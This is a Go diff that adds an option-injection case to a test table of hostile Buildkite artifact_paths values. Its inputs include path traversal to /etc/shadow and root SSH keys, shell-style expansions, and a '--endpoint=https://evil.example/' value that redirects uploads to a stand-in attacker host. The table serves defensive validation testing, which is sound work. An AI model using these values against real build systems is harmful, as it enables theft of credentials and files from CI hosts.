@@ -59,6 +59,7 @@ var hostile = []struct {
 	{"artifacts above", "artifact_paths", map[string]string{"BUILDKITE_ARTIFACT_PATHS": "result.json;../../etc/shadow"}},
 	{"artifacts of the node", "artifact_paths", map[string]string{"BUILDKITE_ARTIFACT_PATHS": "/etc/shadow"}},
 	{"artifacts of a home", "artifact_paths", map[string]string{"BUILDKITE_ARTIFACT_PATHS": "~root/.ssh/*"}},
+	{"artifacts that are options", "artifact_paths", map[string]string{"BUILDKITE_ARTIFACT_PATHS": "--endpoint=https://evil.example/"}},
 	{"artifacts above in braces", "artifact_paths", map[string]string{"BUILDKITE_ARTIFACT_PATHS": "{a,..}/{b,..}/etc"}},
 	{"artifacts with an escape", "artifact_paths", map[string]string{"BUILDKITE_ARTIFACT_PATHS": `\.\./x`}},
 	{"artifacts of a variable", "artifact_paths", map[string]string{"BUILDKITE_ARTIFACT_PATHS": "$HOME/x"}},
